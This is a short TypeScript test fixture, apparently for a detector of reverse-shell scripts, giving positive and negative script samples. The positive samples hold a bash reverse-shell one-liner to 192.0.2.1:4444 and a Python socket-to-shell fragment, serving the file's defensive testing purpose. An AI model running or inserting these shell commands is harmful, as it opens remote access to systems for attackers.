import { type BehaviourSample, scriptFile } from "../behaviour.fixture.ts";

export const sample: BehaviourSample = {
  shows: [
    scriptFile("a.sh", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
    scriptFile("a.py", 's.connect((host, port))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")\n'),
  ],
  lacks: [
    scriptFile("a.sh", "bash -i\nexec 3<>/dev/tcp/localhost/80\n"),
    scriptFile("a.js", 'const shell = spawn("/bin/sh", ["-c", line]);\n'),
  ],
};
